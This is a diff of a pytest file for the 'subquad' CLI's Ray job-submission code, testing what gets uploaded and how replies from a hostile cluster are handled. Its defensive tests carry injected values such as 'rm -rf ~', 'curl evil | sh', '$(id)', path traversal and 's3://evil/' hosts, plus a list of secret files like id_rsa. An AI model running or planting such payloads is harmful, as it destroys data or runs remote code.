@@ -8,14 +8,17 @@ import itertools
 import json
 import os
 import shutil
+import signal
 import socket
 import subprocess
 import sys
 import threading
+import time
 import tracemalloc
 import zipfile
 import zlib
 from collections.abc import Iterator
+from importlib.metadata import version
 from pathlib import Path
 from types import SimpleNamespace
 
@@ -23,10 +26,13 @@ import pytest
 from small_run import SMALL
 from wheels import MEAN, wheel
 
+from subquad.cli import job as job_module
 from subquad.cli.main import main
-from subquad.errors import PluginError
+from subquad.errors import UserError
 from subquad.experiment import load_study
-from subquad.ray.upload import JOB, add_packages, check_packages, pack
+from subquad.ray.upload import JOB, add_wheels, check_packages, pack
+from subquad.record.files import write_file
+from subquad.record.models import Owner
 from subquad.record.trust import trust_folder
 
 TOKEN = "t0ken" * 8
@@ -77,7 +83,7 @@ def refused(arguments: list[str], capsys: pytest.CaptureFixture[str], code: int 
     return errors
 
 
-def test_a_job_brings_subquad_the_wheel_the_file_and_the_experiment_and_nothing_else(
+def test_a_job_brings_the_wheel_the_file_and_the_experiment_and_nothing_else(
     cluster, tmp_path, capsys
 ):
     for secret in (".git/config", ".env", "data/train.npy", "runs/small/metrics.jsonl"):
@@ -101,20 +107,12 @@ def test_a_job_brings_subquad_the_wheel_the_file_and_the_experiment_and_nothing_
     assert main(["submit", "train", *given]) == 0
     output = capsys.readouterr().out
     assert (
-        f"uploads {cluster.size / 1e6:.1f} MB to http://cluster: sent-mean 1.0, subquad " in output
+        f"uploads {cluster.size / 1e6:.1f} MB to http://cluster: sent-mean 1.0, experiment.yaml, "
+        "mine.py\n" in output
     )
-    assert "experiment.yaml, mine.py\n" in output
     kinds = {name.split("/")[0].split("-")[0] for name in cluster.files}
-    assert kinds == {
-        "subquad",
-        "subquad_plugins",
-        "subquad_datasets",
-        "subquad_spaces",
-        "subquad_check",
-        "subquad_tools",
-        "sent_mean.py",
-        "sent_mean",
-    }
+    assert kinds == {"subquad", "sent_mean.py", "sent_mean"}
+    assert all(name.startswith(JOB) for name in cluster.files if name.startswith("subquad"))
     assert not [name for name in cluster.files if name.endswith((".pyc", "direct_url.json"))]
     assert {name for name in cluster.files if "sent" in name and "/" in name} == {
         f"sent_mean-1.0.dist-info/{base}"
@@ -122,7 +120,8 @@ def test_a_job_brings_subquad_the_wheel_the_file_and_the_experiment_and_nothing_
     }
     job = cluster.words[2]
     assert cluster.words[:2] == ["submit", "_job"]
-    assert cluster.words[3:6] == ["/data/sq", "train", f"jobs/{job}/experiment.yaml"]
+    assert cluster.words[3:5] == ["/data/sq", version("subquad")]
+    assert cluster.words[5:7] == ["train", f"jobs/{job}/experiment.yaml"]
     assert f"subquad submit logs {job} -f" in output
     shutil.rmtree(tmp_path / "runs")
     Path("mine.py").unlink()
@@ -162,7 +161,7 @@ def test_a_search_is_sent_with_its_options_and_files(cluster, capsys):
         )
         == 0
     )
-    job, words = cluster.words[2], cluster.words[4:]
+    job, words = cluster.words[2], cluster.words[5:]
     own = ["pruner.reduction_factor=2", "sampler.seed=4"]
     assert words[:4] == ["tune", f"jobs/{job}/experiment.yaml", *own]
     given = dict(zip(words[4::2], words[5::2], strict=False))
@@ -173,7 +172,7 @@ def test_a_search_is_sent_with_its_options_and_files(cluster, capsys):
     assert (given["--sampler"], given["--budget"]) == ("tpe", "3-trials")
     assert "lr: 0.5" in (cluster.folder / JOB / "experiment.yaml").read_text()
     assert main(["submit", "resume", "runs/small/20260101-000000-aa", "--detach"]) == 0
-    assert cluster.words[4:6] == ["resume", "runs/small/20260101-000000-aa"]
+    assert cluster.words[5:7] == ["resume", "runs/small/20260101-000000-aa"]
     capsys.readouterr()
     assert "space 'nosuch'" in refused(["tune", "small.yaml", "--space", "nosuch"], capsys)
 
@@ -193,7 +192,7 @@ def test_a_mistake_is_told_before_anything_is_sent(cluster, tmp_path, capsys):
         "mixer 'sent-mean' is offered by other 1.0 and sent-mean 1.0: send one of them"
         in refused(both, capsys)
     )
-    assert "another package that is sent has a file" in refused(
+    assert "another wheel that is sent has a file" in refused(
         [*both[:4], "--plugin", same[0]], capsys
     )
     here = f"here is Python {sys.version_info.major}.{sys.version_info.minor}"
@@ -215,7 +214,7 @@ def test_a_mistake_is_told_before_anything_is_sent(cluster, tmp_path, capsys):
     for name, message in (
         ("no.whl", "not a wheel"),
         ("gone.whl", "no such file"),
-        ("nobody", "not installed here"),
+        ("nobody", "no such file"),
     ):
         assert message in refused(["train", "small.yaml", "--plugin", name], capsys)
     assert cluster.words == []
@@ -235,102 +234,13 @@ def test_a_secret_in_a_setting_is_not_sent(cluster, capsys):
     assert main(["submit", "train", "small.yaml", "mixer=./mine.py:Mean", "--detach"]) == 0
 
 
-def test_what_is_sent_of_an_editable_package_is_what_its_wheel_has(tmp_path):
-    assert add_packages(["subquad"], tmp_path / "sent") == []
-    assert check_packages(tmp_path / "sent")[0].startswith("subquad ")
-    (record,) = (tmp_path / "sent").glob("*.dist-info/RECORD")
-    rows = record.read_text().splitlines()
-    assert any(row.startswith("subquad_plugins/agf/") for row in rows)
-    assert any(row.startswith("subquad_spaces/") and ".yaml," in row for row in rows)
+def test_the_same_files_make_the_same_archive(tmp_path):
+    add_wheels([str(wheel(tmp_path))], tmp_path / "sent")
+    assert check_packages(tmp_path / "sent") == ["sent-mean 1.0"]
     first = pack(tmp_path / "sent", tmp_path / "1.zip")
-    os.utime(record, (1, 1))
+    os.utime(tmp_path / "sent" / "sent_mean.py", (1, 1))
     assert pack(tmp_path / "sent", tmp_path / "2.zip") == first
     assert (tmp_path / "1.zip").read_bytes() == (tmp_path / "2.zip").read_bytes()
-
-
-@pytest.fixture
-def editable(tmp_path, monkeypatch) -> Path:
-    """The package folder of a distribution that is installed in editable form, with all that may
-    lie there.
-    """
-    site, package = tmp_path / "site", tmp_path / "checkout" / "sent_editable"
-    info = site / "sent_editable-1.0.dist-info"
-    info.mkdir(parents=True)
-    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: sent-editable\nVersion: 1.0\n")
-    (info / "WHEEL").write_text("Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
-    (info / "entry_points.txt").write_text("[subquad.mixers]\nsent-editable = sent_editable:Mean\n")
-    rows = ["__editable__.sent_editable.pth,sha256=x,1", "__editable___finder.py,sha256=x,1"]
-    (info / "RECORD").write_text(
-        "".join(f"{row}\n" for row in [*rows, "sent_editable-1.0.dist-info/METADATA,,"])
-    )
-    files = ("__init__.py", "core/more.py", "recipes/a.yaml", "py.typed", "page.html.j2")
-    secret = (
-        "key.pem",
-        "credentials.json",
-        "secrets.env",
-        "data/train.npy",
-        "data/train.csv",
-        ".env",
-        "a.pyc",
-        "id_rsa",
-    )
-    for name in (*files, *secret):
-        (package / name).parent.mkdir(parents=True, exist_ok=True)
-        (package / name).write_text(f"# {name}\n")
-    (tmp_path / "outside.py").write_text("# CANARY\n")
-    (package / "link.py").symlink_to(tmp_path / "outside.py")
-    monkeypatch.syspath_prepend(str(site))
-    monkeypatch.syspath_prepend(str(package.parent))
-    return package
-
-
-def test_an_editable_package_sends_code_and_names_what_it_leaves_out(editable, tmp_path):
-    for name in ("secrets.yaml", "local_settings.py", ".cache/a.py"):
-        (editable / name).parent.mkdir(exist_ok=True)
-        (editable / name).write_text("# CANARY\n")
-    (editable / "beside").symlink_to(tmp_path / "site")
-    (editable.parent / ".gitignore").write_text("secrets.*\nlocal_settings.py\n.cache\n")
-    subprocess.run(["git", "init", "--quiet", str(editable.parent)], check=True)
-    left_out = add_packages(["sent-editable"], tmp_path / "sent")
-    own = {
-        path.relative_to(tmp_path / "sent").as_posix()
-        for path in (tmp_path / "sent").rglob("*")
-        if path.is_file()
-    }
-    code = ("__init__.py", "core/more.py", "page.html.j2", "py.typed", "recipes/a.yaml")
-    assert {name for name in own if ".dist-info/" not in name} == {
-        f"sent_editable/{name}" for name in code
-    }
-    left = (
-        ".cache/a.py",
-        ".env",
-        "a.pyc",
-        "beside",
-        "credentials.json",
-        "data/train.csv",
-        "data/train.npy",
-        "id_rsa",
-        "key.pem",
-        "link.py",
-        "local_settings.py",
-        "secrets.env",
-        "secrets.yaml",
-    )
-    assert left_out == [f"sent_editable/{name}" for name in left]
-
-
-def test_where_git_cannot_say_what_it_ignores_nothing_is_sent(editable, tmp_path):
-    (editable.parent / ".git").write_text("gitdir: /nowhere\n")
-    with pytest.raises(PluginError, match="which of its files it ignores; give a wheel"):
-        add_packages(["sent-editable"], tmp_path / "sent")
-
-
-def test_what_came_from_a_wheel_is_sent_as_it_came(tmp_path):
-    sent = tmp_path / "sent"
-    assert add_packages(["rouge-score"], sent) == []
-    names = {path.relative_to(sent).parts[0] for path in sent.rglob("*") if path.is_file()}
-    assert len(names) == 2
-    assert "rouge_score" in names
 
 
 @pytest.mark.skipif(os.getuid() != 0, reason="starts a program of another user")
@@ -503,7 +413,6 @@ CALLS = {
     "logs": lambda jobs, into: jobs.logs("a"),
     "follow": lambda jobs, into: jobs.follow("a", print),
     "stop": lambda jobs, into: jobs.stop("a"),
-    "fetch": lambda jobs, into: jobs.fetch("a", into),
     "submit": lambda jobs, into: jobs.submit(into / "job.zip", [], "a", {}),
 }
 
@@ -525,7 +434,7 @@ def test_no_answer_of_a_head_node_is_taken_without_end(call, flooding, tmp_path,
         CALLS[call](asked, tmp_path)
 
 
-@pytest.mark.parametrize("call", ["info", "all", "logs", "stop", "fetch"])
+@pytest.mark.parametrize("call", ["info", "all", "logs", "stop"])
 @pytest.mark.parametrize(
     "said", [b'{"logs": NaN}', b"[" * 10_000, b"3", b"[3]", b"\xff"], ids=range(5)
 )
@@ -537,19 +446,6 @@ def test_what_is_no_answer_of_rays_is_told(call, said, flooding, tmp_path):
     flooding.flood = [said]
     with pytest.raises(UserError, match="answers with what is no answer of Ray's"):
         CALLS[call](jobs.Jobs(flooding.url), tmp_path)
-
-
-def test_results_of_a_job_are_not_taken_without_end(flooding, tmp_path, monkeypatch):
-    pytest.importorskip("ray")
-    from subquad.errors import RunError
-    from subquad.ray import jobs
-
-    asked = jobs.Jobs(flooding.url)
-    monkeypatch.setattr(asked, "info", lambda job: SimpleNamespace(driver_node_id="a"))
-    monkeypatch.setattr(jobs, "MOST_PACKED", 2**20)
-    with pytest.raises(RunError, match="at most 1,048,576 are read"):
-        asked.fetch("a", tmp_path)
-    assert list(tmp_path.iterdir()) == []
 
 
 def test_the_first_answer_of_a_stranger_is_neither_unpacked_nor_waited_for(flooding, monkeypatch):
@@ -616,7 +512,7 @@ class Hostile(Cluster):
     stopped = "subquad: stopped by SIGTERM\x1b[2J after saving step 3; go on with: "
 
     def logs(self, job):
-        return f"{HOSTILE}{self.stopped}{self.hint}\n"
+        return f"{HOSTILE}the job's run: {self.run}\n{self.stopped}subquad resume {self.run}\n"
 
     def follow(self, job, show):
         show(HOSTILE)
@@ -639,16 +535,13 @@ class Hostile(Cluster):
     def stop(self, job):
         return self.info(job), True
 
-    def fetch(self, job, into, goes_on=""):
-        return []
-
 
 @pytest.mark.parametrize(
     "words", [["logs", "a"], ["logs", "a", "-f"], ["stop", "a"], ["status"], ["status", "a"]]
 )
 def test_what_a_cluster_says_cannot_steer_the_terminal(words, tmp_path, monkeypatch, capsys):
     found = Hostile(tmp_path)
-    found.hint = "subquad resume runs/a/b; rm -rf ~"
+    found.run = "runs/a/b; rm -rf ~"
     monkeypatch.setattr("subquad.cli.submit._connect", lambda address, insecure: found)
     main(["submit", *words])
     output = "".join(capsys.readouterr())
@@ -658,20 +551,79 @@ def test_what_a_cluster_says_cannot_steer_the_terminal(words, tmp_path, monkeypa
         assert "rm -rf" not in output
 
 
+@pytest.mark.parametrize("words", [["stop", "a"], ["status", "a"], ["logs", "a"]])
 @pytest.mark.parametrize(
-    ("hint", "said"),
+    ("run", "said"),
     [
-        ("subquad resume runs/a/b", "subquad submit resume runs/a/b (and"),
-        ("subquad resume runs/a/../b", None),
-        ("curl evil | sh", None),
-        ("subquad resume runs/a/$(id)", None),
+        ("runs/a/b", "subquad submit resume runs/a/b (and"),
+        ("runs/a/../b", None),
+        ("s3://evil/runs/a/b", None),
+        ("runs/a/$(id)", None),
     ],
 )
-def test_a_stopped_job_names_only_a_place_to_go_on_from(hint, said, tmp_path, monkeypatch, capsys):
+def test_a_job_without_a_result_names_only_a_place_to_go_on_from(
+    run, said, words, tmp_path, monkeypatch, capsys
+):
     found = Hostile(tmp_path)
-    found.hint = hint
+    found.run = run
     monkeypatch.setattr("subquad.cli.submit._connect", lambda address, insecure: found)
-    assert main(["submit", "stop", "a"]) == 0
-    out = capsys.readouterr().out
-    assert "stopped by SIGTERM\\x1b[2J after saving step 3\n" in out
-    assert (f"go on with: {said}" in out) if said else ("go on with" not in out)
+    assert main(["submit", *words]) == 0
+    out, errors = capsys.readouterr()
+    if words[0] == "stop":
+        assert "stopped by SIGTERM\\x1b[2J after saving step 3\n" in out
+    assert errors == (f"go on with: {said} --root, --plugin as before)\n" if said else "")
+
+
+def test_files_of_a_job_come_from_the_storage_that_was_given_and_no_other(
+    cluster, bucket, tmp_path, capsys, monkeypatch
+):
+    info = SimpleNamespace(
+        status=SimpleNamespace(value="SUCCEEDED", is_terminal=lambda: True),
+        driver_exit_code=0,
+        submission_id="a",
+    )
+    monkeypatch.setattr(cluster, "follow", lambda job, show: info, raising=False)
+    place = "runs/small/20260101-101500-ab12cd34"
+    bucket.write(f"{place}/experiment.yaml", b"name: small")
+    bucket.write(f"{place}/checkpoints/step-1/model.safetensors", b"large")
+    train = ["submit", "train", "small.yaml", f"resources.storage={bucket.storage}"]
+    for said in (place, f"s3://evil/{place}", "runs/../../x"):
+        log = f"the job's run: {said}\n"
+        monkeypatch.setattr(cluster, "logs", lambda job, log=log: log, raising=False)
+        assert main([*train, "--into", str(tmp_path / "into")]) == 0
+        found = [path for path in (tmp_path / "into").rglob("*") if path.is_file()]
+        assert found == [tmp_path / "into" / place / "experiment.yaml"]
+    capsys.readouterr()
+
+
+def test_a_driver_that_is_killed_is_started_again_in_the_same_job(tmp_path, monkeypatch, capsys):
+    """Each start writes what it was given; the first two are killed, the second with a run."""
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setattr(job_module, "_LOOK_SECONDS", 0.05)
+
+    def drive(words):
+        with (tmp_path / "starts").open("a") as stream:
+            print(*words, file=stream)
+        starts = (tmp_path / "starts").read_text().count("\n")
+        if starts == 2:
+            write_file(Path("runs/small/one"), Owner(pid=os.getpid(), host=os.uname().nodename))
+        if starts < 3:
+            time.sleep(0.5)
+            os.kill(os.getpid(), signal.SIGKILL)
+        os._exit(7)
+
+    monkeypatch.setattr("subquad.cli.main.main", drive)
+    (tmp_path / "sent").mkdir()
+    monkeypatch.chdir(tmp_path / "sent")
+    before = signal.getsignal(signal.SIGTERM)
+    try:
+        code = job_module.do_job("a", tmp_path / "root", version("subquad"), ["train", "x"])
+    finally:
+        signal.signal(signal.SIGTERM, before)
+    assert code == 7
+    assert (tmp_path / "starts").read_text() == "train x\ntrain x\nresume runs/small/one\n"
+    out, errors = capsys.readouterr()
+    assert out.count("the job's run: runs/small/one\n") == 1
+    assert errors.count("the driver was killed by SIGKILL; another one goes on") == 2
+    with pytest.raises(UserError, match=r"of subquad, the job is from 0\.0\.1"):
+        job_module.do_job("a", tmp_path / "root", "0.0.1", [])
